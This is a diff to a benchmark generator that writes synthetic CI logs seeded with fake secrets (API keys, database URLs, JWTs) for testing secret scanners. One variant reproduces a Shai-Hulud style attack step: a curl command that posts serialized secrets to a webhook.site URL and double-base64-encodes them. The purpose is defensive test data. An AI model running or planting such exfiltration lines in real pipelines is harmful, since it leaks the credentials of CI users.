+      record(kind, variant, L(`+ curl -sS -X POST -H 'Content-type: application/json' --data @payload.json ${url}`), url, { context: 'xtrace' });
       L('ok');
       break;
     }
     case 'openai-api-key':
     case 'anthropic-api-key': {
-      const token = kind === 'anthropic-api-key' ? other.anthropic(rng) : variant === 'legacy' ? other.openaiLegacy(rng) : other.openaiProject(rng);
-      const name = kind === 'anthropic-api-key' ? 'ANTHROPIC_API_KEY' : 'OPENAI_API_KEY';
+      let token;
+      if (kind === 'anthropic-api-key') token = variant === 'admin01' ? `sk-ant-admin01-${rng.str(`${ALNUM}_-`, 93)}AA` : other.anthropic(rng);
+      else if (variant === 'legacy') token = other.openaiLegacy(rng);
+      else if (variant === 'svcacct') token = `sk-svcacct-${rng.str(`${ALNUM}_-`, 74)}T3BlbkFJ${rng.str(`${ALNUM}_-`, 74)}`;
+      else token = other.openaiProject(rng);
+      const name = kind === 'anthropic-api-key' ? (variant === 'admin01' ? 'ANTHROPIC_ADMIN_KEY' : 'ANTHROPIC_API_KEY') : 'OPENAI_API_KEY';
       header(`python -c "import os; print('${name}=' + os.environ['${name}'])"`);
-      const line = L(`${name}=${token}`);
-      record(kind, variant, line, token, { context: 'print' });
+      record(kind, variant, L(`${name}=${token}`), token, { context: 'print' });
       break;
     }
     case 'private-key': {
@@ -1131,21 +1228,28 @@ function plant(rng, w, job, kind, variant, record, related) {
       record(kind, variant, first, pem.join('\n'), { endLine: w.lines, context: 'PEM block' });
       break;
     }
-    case 'postgres-url': {
-      const password = rng.str(`${ALNUM}`, rng.int(16, 32));
+    case 'database-url': {
+      const password = rng.str(ALNUM, rng.int(16, 32));
       const user = rng.pick(['app', 'app_user', 'deploy', 'migrator', job.project]);
-      const host = rng.pick([`db-${rng.hex(6)}.${rng.str('abcdefghijklmnopqrstuvwxyz0123456789', 12)}.us-east-1.rds.amazonaws.com`, `${job.repo}-prod.postgres.database.azure.com`, `ep-${rng.pick(WORDS)}-${rng.pick(WORDS)}-${rng.int(100000, 999999)}.us-east-2.aws.neon.tech`]);
-      const url = `${rng.pick(['postgres', 'postgresql', 'postgresql+psycopg2'])}://${user}:${password}@${host}:5432/${job.project}${rng.chance(0.4) ? '?sslmode=require' : ''}`;
-      if (variant === 'env') {
-        header('printenv DATABASE_URL');
-        record(kind, variant, L(url), url, { context: 'printenv' });
-      } else {
+      const cloud = () => rng.pick([`db-${rng.hex(6)}.${rng.str('abcdefghijklmnopqrstuvwxyz0123456789', 12)}.us-east-1.rds.amazonaws.com`, `${job.repo}-prod.postgres.database.azure.com`, `ep-${rng.pick(WORDS)}-${rng.pick(WORDS)}-${rng.int(100000, 999999)}.us-east-2.aws.neon.tech`]);
+      let url;
+      let context;
+      if (variant === 'mysql') url = `mysql://${user}:${password}@${job.repo}-db.${rng.str('abcdefghijklmnopqrstuvwxyz0123456789', 12)}.eu-west-1.rds.amazonaws.com:3306/${job.project}`;
+      else if (variant === 'mongodb') url = `mongodb+srv://${user}:${password}@cluster0.${rng.str('abcdefghijklmnopqrstuvwxyz0123456789', 5)}.mongodb.net/${job.project}?retryWrites=true&w=majority`;
+      else if (variant === 'redis') url = `rediss://default:${password}@${rng.pick(WORDS)}-${rng.pick(WORDS)}-${rng.int(10000, 99999)}.upstash.io:6379`;
+      else if (variant === 'amqp') url = `amqps://${user}:${password}@${rng.pick(WORDS)}.rmq.cloudamqp.com/${rng.str('abcdefghijklmnopqrstuvwxyz', 8)}`;
+      else url = `${rng.pick(['postgres', 'postgresql', 'postgresql+psycopg2'])}://${user}:${password}@${cloud()}:5432/${job.project}${rng.chance(0.4) ? '?sslmode=require' : ''}`;
+      if (variant === 'postgres-migration') {
         header('alembic upgrade head');
         L('INFO  [alembic.runtime.migration] Context impl PostgresqlImpl.');
         L('INFO  [alembic.runtime.migration] Will assume transactional DDL.');
-        const line = L(`INFO  [sqlalchemy.engine] Connecting with sqlalchemy.url = ${url}`);
-        record(kind, variant, line, url, { context: 'migration log' });
+        context = 'migration log';
+        record(kind, variant, L(`INFO  [sqlalchemy.engine] Connecting with sqlalchemy.url = ${url}`), url, { context });
         L(`INFO  [alembic.runtime.migration] Running upgrade ${rng.hex(12)} -> ${rng.hex(12)}, add ${rng.pick(WORDS)} table`);
+      } else {
+        const name = { mysql: 'MYSQL_URL', mongodb: 'MONGODB_URI', redis: 'REDIS_URL', amqp: 'CLOUDAMQP_URL' }[variant] ?? 'DATABASE_URL';
+        header(`printenv ${name}`);
+        record(kind, variant, L(url), url, { context: 'printenv' });
       }
       break;
     }
@@ -1154,12 +1258,20 @@ function plant(rng, w, job, kind, variant, record, related) {
   }
 }
 
+/** A JWT from some other issuer (an internal API's RS256 bearer token with an expiry). */
+function otherJwt(rng, now) {
+  const header = { alg: 'RS256', typ: 'JWT', kid: rng.b64url(16) };
+  const payload = { iss: 'https://auth.example-corp.net/', sub: `svc-${rng.pick(WORDS)}`, aud: 'https://api.internal.example-corp.net', iat: now, exp: now + 3600, scope: 'deployments:read deployments:write', azp: rng.str(ALNUM, 32) };
+  const enc = (v) => Buffer.from(JSON.stringify(v)).toString('base64url');
+  return `${enc(header)}.${enc(payload)}.${rng.b64url(256)}`;
+}
+
 /**
  * A tj-actions/changed-files style dump (memdump of the runner, `"NAME":{"value":"…","isSecret":true}`
  * lines, sort -u, base64 -w 0 | base64 -w 0), or a Shai-Hulud one (`toJSON(secrets)` piped through
  * the same double base64). Each holds a ghs_ token and a pypi- token; the dump line is the finding.
  */
-function plantDump(rng, w, job, record) {
+function plantDump(rng, w, job, record, related) {
   const now = w.nowSeconds();
   const ghs = checksummed(rng, 'ghs_');
   const pypi = pypiVariant(rng, rng.chance(0.5) ? 'project' : 'user', { nowSeconds: now, projects: [job.repo] });
@@ -1174,7 +1286,7 @@ function plantDump(rng, w, job, record) {
     ];
     if (rng.chance(0.5)) entries.push(`"CODECOV_TOKEN":{"value":"${rng.uuid()}","isSecret":true}`);
     inner = `${entries.sort().join('\n')}\n`;
-    w.line('##[group]Run tj-actions/changed-files@v45');
+    related.push(w.line('##[group]Run tj-actions/changed-files@v45'));
     w.line('with:');
     w.line('  token: ***');
     w.line('  files_separator: \\n');
@@ -1184,8 +1296,9 @@ function plantDump(rng, w, job, record) {
   } else {
     variant = 'shai-hulud';
     inner = `${JSON.stringify({ github_token: ghs, PYPI_API_TOKEN: pypi }, null, 2)}\n`;
-    w.line(`##[group]Run curl -d "$CONTENTS" https://webhook.site/${rng.uuid()}; echo "$CONTENTS" | base64 -w 0 | base64 -w 0`);
-    w.line(`curl -d "$CONTENTS" https://webhook.site/${rng.uuid()}; echo "$CONTENTS" | base64 -w 0 | base64 -w 0`);
+    const hook = rng.uuid();
+    related.push(w.line(`##[group]Run curl -d "$CONTENTS" https://webhook.site/${hook}; echo "$CONTENTS" | base64 -w 0 | base64 -w 0`));
+    related.push(w.line(`curl -d "$CONTENTS" https://webhook.site/${hook}; echo "$CONTENTS" | base64 -w 0 | base64 -w 0`));
     w.line('shell: /usr/bin/bash -e {0}');
     w.line('env:');
     w.line('  CONTENTS: ***');
@@ -1280,7 +1393,8 @@ if (process.argv[1] && path.resolve(process.argv[1]) === fileURLToPath(import.me
     process.stderr.write('usage: node bench/logs/generate.mjs [--size MB] [--seed N] [--out DIR] [--force]\n');
     process.exit(2);
   }
-  const result = ensureLog({ dir: path.resolve(values.out), sizeMb, seed, force: values.force, onProgress: (b) => process.stderr.write(`  ${(b / MB).toFixed(0)} MB\r`) });
+  const progress = process.stderr.isTTY ? (b) => process.stderr.write(`  ${(b / MB).toFixed(0)} MB\r`) : undefined;
+  const result = ensureLog({ dir: path.resolve(values.out), sizeMb, seed, force: values.force, onProgress: progress });
   const { truth } = result;
   process.stdout.write(`${result.file}\n  ${truth.bytes} bytes, ${truth.lines} lines, ${truth.planted.length} planted (${Object.entries(truth.byKind).map(([k, n]) => `${k} ${n}`).join(', ')}), ${truth.decoys.length} look-alikes${result.generatedMs === null ? ' (cached)' : `, generated in ${(result.generatedMs / 1000).toFixed(1)} s`}\n`);
 }
